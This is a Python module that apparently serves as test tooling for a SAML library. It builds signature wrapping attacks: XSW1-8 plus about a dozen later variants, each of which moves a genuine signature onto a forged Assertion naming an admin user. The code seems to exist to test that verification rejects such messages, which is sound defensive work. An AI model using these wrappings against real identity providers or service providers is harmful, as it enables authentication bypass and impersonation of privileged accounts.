"""Signature wrapping: genuine signatures around, beside or inside something forged.

XSW 1-8 as in "On Breaking SAML" (USENIX Security 2012) and SAML Raider, and those found since.
Each takes a signed message and returns one that says FORGED where an element is looked up by name.
"""

from collections.abc import Callable
from copy import deepcopy
from typing import Literal, TypeAlias

from lxml import etree

from federation.saml.xml import ASSERTION, DS, SAML, SAMLP, SIGNATURE, Element

FORGED = "admin@acme.example"
_FORGED_ID = "_forged"

Wrapping: TypeAlias = Callable[[Element], Element]


def _assertion(root: Element) -> Element:
    found = root.find(ASSERTION)
    if found is None:
        raise ValueError("there is no Assertion to wrap")
    return found


def _signature(element: Element) -> Element:
    found = element.find(SIGNATURE)
    if found is None:
        raise ValueError("the message is not signed there")
    return found


def _unsigned(element: Element) -> Element:
    copy = deepcopy(element)
    copy.tail = None
    for signature in copy.findall(SIGNATURE):
        copy.remove(signature)
    return copy


def _forge(element: Element, *, new_id: bool = True) -> Element:
    copy = _unsigned(element)
    if new_id:
        copy.set("ID", _FORGED_ID)
    for name in copy.iter(SAML + "NameID"):
        name.text = FORGED
    return copy


def _within(tag: str, *children: Element) -> Element:
    parent = etree.Element(tag)
    parent.extend(children)
    return parent


def _response_in_signature(root: Element) -> Element:
    """XSW1: a forged Response carries the signature, the original sits inside it."""
    signature = deepcopy(_signature(root))
    signature.append(_unsigned(root))
    forged = _forge(root)
    forged.insert(1, signature)
    return forged


def _response_before_signature(root: Element) -> Element:
    """XSW2: the same, with the original beside the signature."""
    forged = _forge(root)
    forged.insert(1, _unsigned(root))
    forged.insert(2, deepcopy(_signature(root)))
    return forged


def _sibling_before(root: Element) -> Element:
    """XSW3: a forged Assertion before the original."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _forge(assertion))
    return root


def _sibling_after(root: Element) -> Element:
    """A forged Assertion behind the original."""
    root.append(_forge(_assertion(root)))
    return root


def _parent(root: Element) -> Element:
    """XSW4: a forged Assertion around the original."""
    assertion = _assertion(root)
    forged = _forge(assertion)
    root.replace(assertion, forged)
    forged.append(assertion)
    return root


def _signature_taken(root: Element) -> Element:
    """XSW5: the forged Assertion carries the signature, the original stands at the end."""
    assertion = _assertion(root)
    forged = _forge(assertion)
    forged.insert(1, deepcopy(_signature(assertion)))
    root.replace(assertion, forged)
    root.append(_unsigned(assertion))
    return root


def _original_in_signature(root: Element) -> Element:
    """XSW6: the same, with the original inside the signature."""
    assertion = _assertion(root)
    forged = _forge(assertion)
    signature = deepcopy(_signature(assertion))
    signature.append(_unsigned(assertion))
    forged.insert(1, signature)
    root.replace(assertion, forged)
    return root


def _forged_in_extensions(root: Element) -> Element:
    """XSW7: the forged Assertion in Extensions, before the original."""
    forged = _forge(_assertion(root), new_id=False)
    root.insert(1, _within(SAMLP + "Extensions", forged))
    return root


def _original_in_object(root: Element) -> Element:
    """XSW8: the original in an Object of the forged Assertion's signature."""
    assertion = _assertion(root)
    forged = _forge(assertion)
    signature = deepcopy(_signature(assertion))
    signature.append(_within(DS + "Object", _unsigned(assertion)))
    forged.insert(1, signature)
    root.replace(assertion, forged)
    return root


def _original_in_extensions(root: Element) -> Element:
    """The signed original in Extensions, the forged one in its place."""
    assertion = _assertion(root)
    forged = _forge(assertion)
    root.replace(assertion, forged)
    root.insert(1, _within(SAMLP + "Extensions", assertion))
    return root


def _in(*path: str) -> Wrapping:
    """A forged copy in place, the original hidden below the forged one."""

    def wrap(root: Element) -> Element:
        assertion = _assertion(root)
        forged = _forge(assertion)
        root.replace(assertion, forged)
        assertion.tail = None
        inner = assertion
        for tag in reversed(path):
            inner = _within(tag, inner)
        forged.append(inner)
        return root

    return wrap


def _in_status_detail(root: Element) -> Element:
    """The signed original in StatusDetail, the forged one in its place."""
    assertion = _assertion(root)
    root.replace(assertion, _forge(assertion))
    status = root.find(SAMLP + "Status")
    if status is None:
        raise ValueError("there is no Status")
    status.append(_within(SAMLP + "StatusDetail", assertion))
    return root


def _in_key_info(root: Element) -> Element:
    """The forged Assertion carries the signature, the original sits in its KeyInfo."""
    assertion = _assertion(root)
    forged = _forge(assertion)
    signature = deepcopy(_signature(assertion))
    info = signature.find(DS + "KeyInfo")
    if info is None:
        raise ValueError("there is no KeyInfo")
    info.append(_unsigned(assertion))
    forged.insert(1, signature)
    root.replace(assertion, forged)
    return root


def _borrowed(root: Element) -> Element:
    """The signature of the Response, of which no second copy exists, on a forged Assertion."""
    forged = _forge(_assertion(root))
    forged.set("ID", str(root.get("ID")))
    signature = _signature(root)
    root.remove(signature)
    root.set("ID", _FORGED_ID)
    forged.insert(1, signature)
    root.replace(_assertion(root), forged)
    return root


def _decoy(root: Element) -> Element:
    """A second Signature with the same SignatureValue."""
    assertion = _assertion(root)
    assertion.append(deepcopy(_signature(assertion)))
    return root


def _same_id(root: Element) -> Element:
    """Original and forged Assertion with one ID."""
    assertion = _assertion(root)
    root.insert(root.index(assertion), _forge(assertion, new_id=False))
    return root


def _nested_response(root: Element) -> Element:
    """The genuine Response inside a forged one."""
    forged = _forge(root)
    root.tail = None
    forged.append(root)
    return forged


# The signature that each one needs: on the Response, or on the Assertion.
WRAPPINGS: dict[str, tuple[Literal["response", "assertion"], Wrapping]] = {
    "xsw1": ("response", _response_in_signature),
    "xsw2": ("response", _response_before_signature),
    "xsw3": ("assertion", _sibling_before),
    "xsw4": ("assertion", _parent),
    "xsw5": ("assertion", _signature_taken),
    "xsw6": ("assertion", _original_in_signature),
    "xsw7": ("assertion", _forged_in_extensions),
    "xsw8": ("assertion", _original_in_object),
    "sibling-after": ("assertion", _sibling_after),
    "original-in-extensions": ("assertion", _original_in_extensions),
    "original-in-advice": ("assertion", _in(SAML + "Advice")),
    "original-in-attribute-value": (
        "assertion",
        _in(SAML + "AttributeStatement", SAML + "Attribute", SAML + "AttributeValue"),
    ),
    "original-in-confirmation-data": (
        "assertion",
        _in(SAML + "Subject", SAML + "SubjectConfirmation", SAML + "SubjectConfirmationData"),
    ),
    "original-in-status-detail": ("assertion", _in_status_detail),
    "original-in-key-info": ("assertion", _in_key_info),
    "borrowed-signature": ("response", _borrowed),
    "decoy-signature": ("assertion", _decoy),
    "same-id": ("assertion", _same_id),
    "nested-response": ("response", _nested_response),
}
